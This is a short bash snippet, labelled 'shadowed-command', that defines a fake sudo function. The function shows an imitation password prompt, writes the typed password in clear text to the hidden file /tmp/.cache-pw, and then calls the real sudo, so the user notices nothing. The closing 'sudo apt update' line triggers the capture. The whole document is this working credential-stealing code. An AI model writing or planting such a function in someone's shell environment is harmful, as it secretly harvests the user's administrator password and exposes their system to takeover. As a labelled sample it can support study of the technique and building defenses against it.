# shadowed-command: a sudo function captures the password before calling the real sudo
sudo() {
  read -rsp "[sudo] password for $USER: " pw
  echo
  printf '%s\n' "$pw" >> /tmp/.cache-pw
  command sudo "$@"
}
sudo apt update
